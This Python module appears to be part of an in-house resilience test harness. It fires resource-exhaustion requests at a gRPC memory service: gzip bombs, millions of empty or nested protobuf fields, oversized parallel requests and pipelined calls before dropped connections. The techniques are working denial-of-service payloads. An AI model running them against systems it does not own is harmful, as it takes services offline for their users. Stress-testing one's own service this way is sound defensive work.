"""Work before limits: requests that are small on the wire, or refused, and costly to look at."""

import gzip
import itertools
from functools import cache

from palaver.v1.memory_pb2 import Message
from palaver.v1.memory_service_pb2 import AddMemoryRequest
from siege.attacker import Attacker, in_parallel

_MIB = 1024 * 1024
_PARALLEL = 8
_LARGE_REQUESTS = 64

# The bytes that a connection may send before the server enlarges the window; a message's header.
_WINDOW_BYTES = 65_535
_HEADER_BYTES = 5

_SESSION = b"\x0a\x05siege"
_EMPTY_MESSAGE = b"\x12\x00"
_EMPTY_LIST = b"\x0a\x02\x32\x00"


async def empty_messages(attacker: Attacker) -> None:
    """Add millions of empty messages at once."""
    request = _SESSION + _EMPTY_MESSAGE * (7 * _MIB)
    async with attacker.channels(1) as (channel,):
        await in_parallel(
            _PARALLEL, lambda: attacker.call(channel, "MemoryService/AddMemory", request)
        )


async def gzip_bombs(attacker: Attacker) -> None:
    """Add millions of empty messages that some kilobytes decompress to."""
    await _send_compressed(attacker, _compressed_messages())


async def nested_metadata(attacker: Attacker) -> None:
    """Add a message whose metadata is a list of millions of empty lists, compressed."""
    await _send_compressed(attacker, _compressed_metadata())


def prepare() -> None:
    """Build the requests that take long to build, so that an attack begins at once."""
    _compressed_messages()
    _compressed_metadata()


@cache
def _compressed_messages() -> bytes:
    return gzip.compress(_SESSION + _EMPTY_MESSAGE * (7 * _MIB))


@cache
def _compressed_metadata() -> bytes:
    values = _field(0x32, _EMPTY_LIST * (3 * _MIB))
    struct = _field(0x0A, b"\x0a\x01a" + _field(0x12, values))
    return gzip.compress(_SESSION + _field(0x12, _field(0x22, struct)))


async def large_requests(attacker: Attacker) -> None:
    """Add as much as fits into a request, in many calls."""
    messages = [Message(role="user", content="x" * 60_000) for _ in range(250)]
    request = AddMemoryRequest(
        session_id="siege", messages=messages, expected_last_sequence=10**9
    ).SerializeToString()
    async with attacker.channels(4) as channels:
        turns = itertools.cycle(channels)
        await in_parallel(
            _LARGE_REQUESTS,
            lambda: attacker.call(next(turns), "MemoryService/AddMemory", request),
        )


async def _send_compressed(attacker: Attacker, compressed: bytes) -> None:
    calls = _WINDOW_BYTES // (len(compressed) + _HEADER_BYTES)

    async def connect_and_add() -> None:
        wire = await attacker.connect()
        try:
            for _ in range(calls):
                wire.call("MemoryService/AddMemory", compressed, is_gzip=True)
            await wire.drop_everything(calls=calls)
        finally:
            wire.close()

    await in_parallel(_PARALLEL, connect_and_add)


def _field(tag: int, content: bytes) -> bytes:
    """Encode a field with its length."""
    length, size = len(content), b""
    while length > 127:
        size += bytes([length & 127 | 128])
        length >>= 7
    return bytes([tag]) + size + bytes([length]) + content
